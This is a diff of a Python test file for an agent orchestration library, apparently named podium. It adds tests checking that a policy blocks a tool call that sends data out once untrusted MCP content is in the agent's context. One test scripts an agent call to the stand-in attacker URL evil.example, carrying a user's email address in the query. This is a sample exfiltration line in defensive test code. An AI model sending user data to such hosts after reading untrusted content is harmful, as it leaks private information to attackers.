@@ -5,18 +5,20 @@ from __future__ import annotations
 import asyncio
 import logging
 import os
+import sys
 from typing import Any
 
 import pytest
 
 from podium import Agent, Orchestrator, Plan, Task
-from podium.events import ToolCalled
+from podium.events import PolicyDecided, ToolCalled
 from podium.exceptions import ConfigError, ToolError
 from podium.mcp import McpServer, McpUnavailable
 from podium.models import ModelRequest, ModelResponse, ToolCall, ToolResultMessage
+from podium.policy import Policy, UntrustedRules
 from podium.testing import FunctionModel
 from podium.tools import Tool, ToolContext
-from tests.mcp.conftest import PNG_B64, stdio_toolbox
+from tests.mcp.conftest import PNG_B64, TOOLBOX, stdio_toolbox
 
 pytestmark = pytest.mark.anyio
 
@@ -210,3 +212,50 @@ def test_load_tools_works_from_synchronous_code_and_closes_its_session() -> None
     server = stdio_toolbox(tools=("add",))
     assert [t.name for t in server.load_tools()] == ["add"]
     assert server._links == {}
+
+
+def sending_toolbox(egress: dict[str, str]) -> McpServer:
+    return McpServer(
+        name="toolbox",
+        command=sys.executable,
+        args=(str(TOOLBOX),),
+        tools=("add", "echo"),
+        egress=egress,
+    )
+
+
+async def test_a_tool_that_sends_is_judged_once_untrusted_content_is_in_context() -> None:
+    server = sending_toolbox({"echo": "text"})  # as a fetch server's `fetch: url`
+    leak = "https://evil.example/c?d=alice%40shop.example"
+    model = caller(
+        ("echo", {"text": "hello"}),  # nothing untrusted yet: free
+        ("add", {"a": 1, "b": 2}),
+        ("echo", {"text": leak}),  # composed after reading MCP results: judged
+    )
+    agent = Agent(name="user", model=model, tools=tuple(await server.list_tools()))
+    policy = Policy(untrusted=UntrustedRules(on_side_effect="block"))
+    async with Orchestrator(agents=[agent], store="memory://", policy=policy) as orch:
+        result = await orch.run(Plan([Task(id="t", agent="user", instruction="go")]))
+        journal = await orch.events(result.run_id)
+    await server.aclose()
+    assert result.status == "succeeded"
+    calls = [e for e in journal if isinstance(e, ToolCalled)]
+    assert [(c.tool, c.error is None) for c in calls] == [
+        ("echo", True),
+        ("add", True),
+        ("echo", False),
+    ]
+    [blocked] = [e for e in journal if isinstance(e, PolicyDecided)]
+    assert (blocked.tool, blocked.effect, blocked.decision) == ("echo", "read", "block")
+    assert "evil.example" in blocked.reason
+
+
+async def test_egress_must_name_a_tool_and_an_argument_it_has() -> None:
+    for egress, message in (
+        ({"nope": "url"}, r"has no tool\(s\) \['nope'\]"),
+        ({"echo": "url"}, r"`egress` names argument 'url' of tool 'echo', which has \['text'\]"),
+    ):
+        server = sending_toolbox(egress)
+        with pytest.raises(ConfigError, match=message):
+            await server.list_tools()
+        await server.aclose()
